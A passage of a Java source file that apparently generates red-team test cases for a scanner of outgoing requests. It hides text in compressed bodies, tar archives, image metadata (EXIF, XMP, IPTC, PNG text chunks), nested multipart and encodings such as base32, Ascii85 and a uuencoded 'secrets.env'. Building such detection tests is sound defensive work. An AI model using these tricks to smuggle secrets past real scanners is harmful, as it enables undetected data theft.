        String container = HardCorpus.fit(rotation, turn++, text);
        neg(kind, container, Containers.build(container, text, false, r));
    }

    private void neg(String kind, String container, Containers.Req req) {
        out.add(new HardCorpus.Out(req, List.of(), List.of(), List.of("family:redteam-enc", "neg:rt-" + kind,
                "container:" + container, "enc:none", "rt:" + kind), ""));
    }

    private void positive(String kind, List<String> rules, List<String> categories, Containers.Req req,
            String container, String enc) {
        List<String> tags = new ArrayList<>(List.of("family:redteam-enc"));
        java.util.Set<String> cats = new java.util.TreeSet<>(categories);
        rules.forEach(id -> cats.add(id.substring(0, id.indexOf('.'))));
        cats.forEach(cat -> tags.add("cat:" + cat));
        tags.addAll(List.of("container:" + container, "enc:" + enc, "rt:" + kind));
        out.add(new HardCorpus.Out(req, rules, categories, tags, ""));
    }

    // ---- request builders ----------------------------------------------------------------------------------------

    private static Containers.Req req(String method, String target, List<Map.Entry<String, String>> headers,
            String where) {
        return new Containers.Req(method, target, headers, new byte[0], false, where);
    }

    private static Containers.Req coded(String coding, byte[] body, String where) {
        return new Containers.Req("POST", ANTHROPIC, Containers.headers("Content-Type", "application/json",
                "Content-Encoding", coding), body, true, "body, " + where);
    }

    private static Containers.Req upload(String filename, String type, byte[] body, String where) {
        return new Containers.Req("PUT", "https://uploads.demo.invalid/v1/files/" + filename,
                Containers.headers("Content-Type", type), body, true, "body " + where);
    }

    private static Containers.Req imageBlock(String mime, byte[] data, String what) {
        String body = "{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":1024,\"messages\":[{\"role\":\"user\","
                + "\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"base64\",\"media_type\":\"" + mime
                + "\",\"data\":\"" + B64.encodeToString(data) + "\"}},{\"type\":\"text\",\"text\":\"What is this?\"}]}]}";
        return new Containers.Req("POST", ANTHROPIC, json(), utf8(body), false,
                "body json $.messages[0].content[0].source.data, base64 " + what);
    }

    private static Containers.Req multipartFile(String filename, String type, byte[] content) {
        String boundary = "----redteamBoundaryQ7x";
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.writeBytes(utf8("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
                + filename + "\"\r\nContent-Type: " + type + "\r\n\r\n"));
        b.writeBytes(content);
        b.writeBytes(utf8("\r\n--" + boundary + "--\r\n"));
        return new Containers.Req("POST", "https://api.openai.com/v1/files", Containers.headers("Content-Type",
                "multipart/form-data; boundary=" + boundary), b.toByteArray(), true, "multipart part " + filename);
    }

    /** A form-data part holding a multipart/mixed body (RFC 7578's older nested form) whose second part is text. */
    private static Containers.Req nestedMultipart(String text) {
        String outer = "----outerBoundary81";
        String inner = "----innerBoundary27";
        String body = "--" + outer + "\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nassistants\r\n--"
                + outer + "\r\nContent-Disposition: form-data; name=\"files\"\r\nContent-Type: multipart/mixed; "
                + "boundary=" + inner + "\r\n\r\n--" + inner + "\r\nContent-Disposition: file; filename=\"a.txt\"\r\n"
                + "Content-Type: text/plain\r\n\r\nfirst file\r\n--" + inner + "\r\nContent-Disposition: file; "
                + "filename=\"b.txt\"\r\nContent-Type: text/plain\r\n\r\n" + text + "\r\n--" + inner + "--\r\n--"
                + outer + "--\r\n";
        return new Containers.Req("POST", "https://uploads.demo.invalid/v1/batch", Containers.headers("Content-Type",
                "multipart/form-data; boundary=" + outer), utf8(body), true,
                "multipart/form-data part holding multipart/mixed, second file");
    }

    private static Map<String, byte[]> entries(String name, String content) {
        Map<String, byte[]> e = new LinkedHashMap<>();
        e.put("README.md", utf8("# export\n"));
        e.put(name, utf8(content));
        return e;
    }

    // ---- binary formats written by hand (byte-exact on every JDK) ------------------------------------------------

    /** A brotli stream (RFC 7932) of one uncompressed meta-block and an empty last one; WBITS 16. */
    static byte[] brotliStored(byte[] data) {
        if (data.length == 0 || data.length > 65_536) {
            throw new IllegalArgumentException("brotli stored block length: " + data.length);
        }
        long bits = 0;            // WBITS=16: one 0 bit; ISLAST 0; MNIBBLES 00 (four nibbles)
        bits |= (long) (data.length - 1) << 4;
        bits |= 1L << 20;         // ISUNCOMPRESSED
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write((int) (bits & 0xff));
        out.write((int) (bits >> 8 & 0xff));
        out.write((int) (bits >> 16 & 0xff));
        out.writeBytes(data);
        out.write(0x03);          // ISLAST 1, ISLASTEMPTY 1
        return out.toByteArray();
    }

    /** A zstd frame (RFC 8878) of raw blocks, single segment, with the content size. */
    static byte[] zstdRaw(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {0x28, (byte) 0xb5, 0x2f, (byte) 0xfd});
        out.write(0xa0);          // FCS field 4 bytes, single segment
        le(out, data.length, 4);
        for (int at = 0; at < data.length || at == 0; ) {
            int n = Math.min(data.length - at, 100_000);
            boolean last = at + n >= data.length;
            le(out, (n << 3) | (last ? 1 : 0), 3); // block type 0: raw
            out.write(data, at, n);
            at += n;
            if (last) {
                break;
            }
        }
        return out.toByteArray();
    }

    private static void le(ByteArrayOutputStream out, long v, int n) {
        for (int i = 0; i < n; i++) {
            out.write((int) (v >> (8 * i) & 0xff));
        }
    }

    /** A ustar header block for {@code name} (at most 100 bytes) of {@code size} and {@code type}. */
    private static byte[] tarHeader(String name, long size, char type) {
        byte[] h = new byte[512];
        byte[] n = utf8(name);
        System.arraycopy(n, 0, h, 0, Math.min(100, n.length));
        put(h, 100, "0000644\0");
        put(h, 108, "0001750\0");
        put(h, 116, "0001750\0");
        put(h, 124, String.format("%011o\0", size));
        put(h, 136, "14530000000\0");
        put(h, 148, "        ");
        h[156] = (byte) type;
        put(h, 257, "ustar\0");
        put(h, 263, "00");
        long sum = 0;
        for (byte b : h) {
            sum += b & 0xff;
        }
        put(h, 148, String.format("%06o\0 ", sum));
        return h;
    }

    private static void put(byte[] h, int at, String s) {
        byte[] b = s.getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(b, 0, h, at, b.length);
    }

    private static void padded(ByteArrayOutputStream out, byte[] data) {
        out.writeBytes(data);
        out.writeBytes(new byte[(512 - data.length % 512) % 512]);
    }

    /** A POSIX pax archive: an {@code x} header carrying {@code path}, then the file. */
    static byte[] paxTar(String name, byte[] content) {
        String record = " path=" + name + "\n";
        int len = record.length();
        len += String.valueOf(len + String.valueOf(len).length()).length();
        byte[] pax = utf8(len + record);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(tarHeader("PaxHeaders/longname", pax.length, 'x'));
        padded(out, pax);
        out.writeBytes(tarHeader(name.substring(name.length() - 40), content.length, '0'));
        padded(out, content);
        out.writeBytes(new byte[1024]);
        return out.toByteArray();
    }

    /** A GNU tar archive: a {@code ././@LongLink} entry carrying the name, then the file. */
    static byte[] gnuLongTar(String name, byte[] content) {
        byte[] longName = utf8(name + "\0");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(tarHeader("././@LongLink", longName.length, 'L'));
        padded(out, longName);
        out.writeBytes(tarHeader(name.substring(0, 99), content.length, '0'));
        padded(out, content);
        out.writeBytes(new byte[1024]);
        return out.toByteArray();
    }

    /** A little-endian TIFF (as PNG eXIf and WebP EXIF carry it) with one ImageDescription. */
    private static byte[] exifTiff(String description) {
        byte[] text = (description + "\0").getBytes(StandardCharsets.ISO_8859_1);
        ByteArrayOutputStream t = new ByteArrayOutputStream();
        t.writeBytes(new byte[] {'I', 'I', 42, 0});
        le(t, 8, 4);
        le(t, 1, 2);
        le(t, 0x010e, 2);
        le(t, 2, 2);
        le(t, text.length, 4);
        le(t, 8 + 2 + 12 + 4, 4);
        le(t, 0, 4);
        t.writeBytes(text);
        return t.toByteArray();
    }

    private static String xmp(String description) {
        return "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">"
                + "<rdf:Description xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:description><rdf:Alt><rdf:li "
                + "xml:lang=\"x-default\">" + Binary.xml(description) + "</rdf:li></rdf:Alt></dc:description>"
                + "</rdf:Description></rdf:RDF></x:xmpmeta>";
    }

    /** A 4x4 PNG with an optional eXIf chunk before IDAT and an optional tEXt chunk after it. */
    private static byte[] png(byte[] exif, boolean textAfter, String text) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        ByteArrayOutputStream ihdr = new ByteArrayOutputStream();
        ihdr.writeBytes(new byte[] {0, 0, 0, 4, 0, 0, 0, 4, 8, 2, 0, 0, 0});
        chunk(out, "IHDR", ihdr.toByteArray());
        if (exif != null) {
            chunk(out, "eXIf", exif);
        }
        chunk(out, "IDAT", Binary.zlib(new byte[4 * 13]));
        if (textAfter) {
            chunk(out, "tEXt", HardValues.concat(utf8("Comment\0"), text.getBytes(StandardCharsets.ISO_8859_1)));
        }
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        le(out, Integer.reverseBytes(data.length) & 0xffffffffL, 4);
        byte[] t = type.getBytes(StandardCharsets.US_ASCII);
        out.writeBytes(t);
        out.writeBytes(data);
        CRC32 crc = new CRC32();
        crc.update(t);
        crc.update(data);
        le(out, Integer.reverseBytes((int) crc.getValue()) & 0xffffffffL, 4);
    }

    /** Binary's 1x1 JPEG with one more segment right after SOI. */
    private static byte[] jpegWith(int marker, byte[] payload) {
        byte[] base = Binary.jpeg(null, Map.of());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0xff);
        out.write(0xd8);
        out.write(0xff);
        out.write(marker);
        out.write((payload.length + 2) >> 8);
        out.write((payload.length + 2) & 0xff);
        out.writeBytes(payload);
        out.write(base, 2, base.length - 2);
        return out.toByteArray();
    }

    /** A Photoshop APP13 payload: one 8BIM IPTC-NAA resource with a 2:120 Caption/Abstract dataset. */
    private static byte[] iptc(String caption) {
        byte[] text = utf8(caption);
        ByteArrayOutputStream iim = new ByteArrayOutputStream();
        iim.writeBytes(new byte[] {0x1c, 1, 90, 0, 3, 0x1b, 0x25, 0x47}); // 1:90 coded character set: UTF-8
        iim.writeBytes(new byte[] {0x1c, 2, 120});
        le(iim, Integer.reverseBytes(text.length) >>> 16, 2);
        iim.writeBytes(text);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8("Photoshop 3.0\0"));
        out.writeBytes(utf8("8BIM"));
        out.writeBytes(new byte[] {0x04, 0x04, 0, 0});
        byte[] data = iim.toByteArray();
        le(out, Integer.reverseBytes(data.length) & 0xffffffffL, 4);
        out.writeBytes(data);
        if (data.length % 2 == 1) {
            out.write(0);
        }
        return out.toByteArray();
    }

    /** A 1x1 lossless WebP (VP8X extended format) with optional EXIF and XMP chunks after the image. */
    private static byte[] webp(byte[] exif, String xmp) {
        byte[] vp8l = {0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, (byte) 0x88, (byte) 0x88, (byte) 0xfe, 0x07, 0};
        ByteArrayOutputStream chunks = new ByteArrayOutputStream();
        int flags = (exif != null ? 0x08 : 0) | (xmp != null ? 0x04 : 0);
        riff(chunks, "VP8X", new byte[] {(byte) flags, 0, 0, 0, 0, 0, 0, 0, 0, 0});
        riff(chunks, "VP8L", java.util.Arrays.copyOf(vp8l, 13));
        if (exif != null) {
            riff(chunks, "EXIF", exif);
        }
        if (xmp != null) {
            riff(chunks, "XMP ", utf8(xmp));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8("RIFF"));
        le(out, 4 + chunks.size(), 4);
        out.writeBytes(utf8("WEBP"));
        out.writeBytes(chunks.toByteArray());
        return out.toByteArray();
    }

    private static void riff(ByteArrayOutputStream out, String type, byte[] data) {
        out.writeBytes(utf8(type));
        le(out, data.length, 4);
        out.writeBytes(data);
        if (data.length % 2 == 1) {
            out.write(0);
        }
    }

    // ---- text encodings ------------------------------------------------------------------------------------------

    /** RFC 4648 base32, upper case, padded or not. */
    static String base32(byte[] data, boolean pad) {
        StringBuilder out = new StringBuilder();
        int buffer = 0;
        int bits = 0;
        for (byte b : data) {
            buffer = buffer << 8 | (b & 0xff);
            bits += 8;
            while (bits >= 5) {
                out.append(Rng.BASE32.charAt(buffer >> (bits - 5) & 31));
                bits -= 5;
            }
        }
        if (bits > 0) {
            out.append(Rng.BASE32.charAt(buffer << (5 - bits) & 31));
        }
        while (pad && out.length() % 8 != 0) {
            out.append('=');
        }
        return out.toString();
    }

    static String rot13(String s) {
        return map(s, c -> c >= 'a' && c <= 'z' ? String.valueOf((char) ('a' + (c - 'a' + 13) % 26))
                : c >= 'A' && c <= 'Z' ? String.valueOf((char) ('A' + (c - 'A' + 13) % 26)) : Character.toString(c));
    }

    /** Adobe Ascii85 without the delimiters ({@code z} for four zero bytes, a short last group). */
    static String ascii85(byte[] data) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < data.length; i += 4) {
            int n = Math.min(4, data.length - i);
            long v = 0;
            for (int k = 0; k < 4; k++) {
                v = v << 8 | (k < n ? data[i + k] & 0xff : 0);
            }
            if (n == 4 && v == 0) {
                out.append('z');
                continue;
            }
            char[] group = new char[5];
            for (int k = 4; k >= 0; k--) {
                group[k] = (char) ('!' + v % 85);
                v /= 85;
            }
            out.append(group, 0, n + 1);
        }
        return out.toString();
    }

    /** A uuencoded file ({@code begin 644 name}, 45 bytes a line). */
    static String uuencode(byte[] data) {
        StringBuilder out = new StringBuilder("begin 644 secrets.env\n");
        for (int i = 0; i < data.length; i += 45) {
            int n = Math.min(45, data.length - i);
            out.append((char) (32 + n));
            for (int k = 0; k < n; k += 3) {
                int b0 = data[i + k] & 0xff;
                int b1 = k + 1 < n ? data[i + k + 1] & 0xff : 0;
                int b2 = k + 2 < n ? data[i + k + 2] & 0xff : 0;
                int[] sextets = {b0 >> 2, (b0 << 4 | b1 >> 4) & 63, (b1 << 2 | b2 >> 6) & 63, b2 & 63};
                for (int s : sextets) {
                    out.append(s == 0 ? '`' : (char) (32 + s));
                }
            }
            out.append('\n');
        }
        return out.append("`\nend\n").toString();
    }

    private static String codes(String s, String sep) {
        return joinBytes(utf8(s), b -> String.valueOf(b), sep);
    }

    private static String joinBytes(byte[] data, java.util.function.IntFunction<String> f, String sep) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < data.length; i++) {
            out.append(i == 0 ? "" : sep).append(f.apply(data[i] & 0xff));
        }
        return out.toString();
    }

    private static String joinEach(String s, Function<Character, String> f, String sep) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < s.length(); i++) {
            out.append(i == 0 ? "" : sep).append(f.apply(s.charAt(i)));
        }
        return out.toString();
    }

    private static String map(String s, java.util.function.IntFunction<String> f) {
        StringBuilder out = new StringBuilder();
        s.chars().forEach(c -> out.append(f.apply(c)));
        return out.toString();
    }

    private String mixedCase(String hex) {
        return map(hex, c -> r.chance(0.5) ? String.valueOf((char) Character.toUpperCase(c)) : String.valueOf((char) c));
    }

    private static String interleave(String v, String mark, int every) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < v.length(); i++) {
            out.append(v.charAt(i));
            if (i > 0 && i % every == 0 && i < v.length() - 1) {
                out.append(mark);
            }
        }
        return out.toString();
    }

    private static String wrap(String s, int width, String sep) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < s.length(); i += width) {
            out.append(i == 0 ? "" : sep).append(s, i, Math.min(s.length(), i + width));
        }
        return out.toString();
    }

    private static String q(String s) {
        return new String(JsonStringEncoder.getInstance().quoteAsString(s));
    }

    private static List<Map.Entry<String, String>> json() {
        return Containers.headers("Content-Type", "application/json");
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
